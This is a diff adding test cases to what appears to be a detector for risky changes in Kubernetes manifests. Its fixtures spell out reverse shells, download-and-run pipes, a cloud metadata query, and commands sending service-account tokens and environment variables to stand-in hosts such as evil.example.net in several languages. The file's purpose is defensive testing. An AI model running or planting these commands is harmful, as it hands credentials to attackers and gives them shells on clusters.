@@ -8,6 +8,11 @@ const usual = run('exec server --port 8080');
 const hook = (line: string) =>
   web({ container: { command: ['server'], lifecycle: { postStart: { exec: { command: ['sh', '-c', line] } } } } });
 
+const sending = (url: string) =>
+  web({ container: { command: ['sh', '-c', 'curl -d "$PASSWORD" "$URL"'], env: [{ name: 'URL', value: url }] } });
+const script = (name: string, text: string) => object('v1/ConfigMap', 'a', { data: { [name]: text } });
+const TOKEN_SENT = 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://evil.example.net';
+
 export const COMMAND_CASES: Case[] = [
   [
     id,
@@ -29,6 +34,108 @@ export const COMMAND_CASES: Case[] = [
   [id, 'fires', 'a connection of the shell', 'high', pair(usual, run('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'))],
   [id, 'fires', 'the metadata service', 'high', pair(usual, run('curl http://169.254.169.254/latest/meta-data/'))],
   [id, 'fires', 'an address that is a variable', 'medium', pair(usual, run('curl "https://$HOST/$TOKEN"'))],
+  [
+    id,
+    'fires',
+    'another end of the connection',
+    'high',
+    pair(run('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), run('bash -i >& /dev/tcp/203.0.113.10/4444 0>&1')),
+  ],
+  [
+    id,
+    'fires',
+    'another program that is decoded',
+    'medium',
+    pair(run('echo aGk= | base64 -d | sh'), run('echo aG8= | base64 -d | sh')),
+  ],
+  [
+    id,
+    'fires',
+    'what somebody else has at the same host',
+    'medium',
+    pair(run('curl https://raw.example.com/one/a | sh'), run('curl https://raw.example.com/two/a | sh')),
+  ],
+  [
+    id,
+    'fires',
+    'all variables where the token went before',
+    'high',
+    pair(
+      run('curl -d @/run/secrets/x/token https://a.example.com'),
+      run('curl -d @/run/secrets/x/token https://a.example.com; env | curl -d @- https://a.example.com'),
+    ),
+  ],
+  [
+    id,
+    'silent',
+    'another port of the same end',
+    '',
+    pair(run('echo a >/dev/tcp/203.0.113.9/44'), run('echo b >/dev/tcp/203.0.113.9/45')),
+  ],
+  ...(
+    [
+      ['python', `import os,urllib.request as u;u.urlopen("https://evil.example.net",str(os.environ).encode())`, '-c'],
+      ['node', `fetch("https://evil.example.net",{method:"POST",body:JSON.stringify(process.env)})`, '-e'],
+      ['perl', 'use IO::Socket::INET;$s=IO::Socket::INET->new("evil.example.net:80");print $s %ENV', '-e'],
+    ] as const
+  ).map(([language, text, flag]): Case => [
+    id,
+    'fires',
+    `all variables, in ${language}`,
+    'high',
+    pair(usual, web({ container: { command: [language, flag, text] } })),
+  ]),
+  [
+    id,
+    'silent',
+    'libraries of a language',
+    '',
+    pair(usual, run("python3 -c 'import os, urllib.request; print(dict(os.environ))'")),
+  ],
+  [
+    id,
+    'fires',
+    'an address in a variable that the manifest has',
+    'medium',
+    pair(sending('https://one.example.net'), sending('https://two.example.net')),
+  ],
+  [id, 'silent', 'a Service in such a variable', '', pair(usual, sending('http://api.shop.svc'))],
+  [
+    id,
+    'fires',
+    'a variable that node runs',
+    'high',
+    pair(
+      web(),
+      web({
+        container: {
+          env: [
+            {
+              name: 'NODE_OPTIONS',
+              value:
+                '--import=data:text/javascript,fetch("https://evil.example.net",{body:JSON.stringify(process.env)})',
+            },
+          ],
+        },
+      }),
+    ),
+  ],
+  [id, 'fires', 'a script that is mounted', 'high', pair(script('run.sh', 'make'), script('run.sh', TOKEN_SENT))],
+  [
+    id,
+    'fires',
+    'a script without a name that tells',
+    'high',
+    pair(script('run', ''), script('run', `#!/bin/sh\n${TOKEN_SENT}`)),
+  ],
+  [id, 'silent', 'a text that is no script', '', pair(script('notes', ''), script('notes', TOKEN_SENT))],
+  [
+    id,
+    'exempt',
+    'a script that did so before',
+    '',
+    pair(script('a.sh', TOKEN_SENT), script('a.sh', `make\n${TOKEN_SENT}`)),
+  ],
   [id, 'fires', 'a hook', 'medium', pair(web(), hook('curl "https://evil.example.net/$TOKEN"'))],
   [
     id,
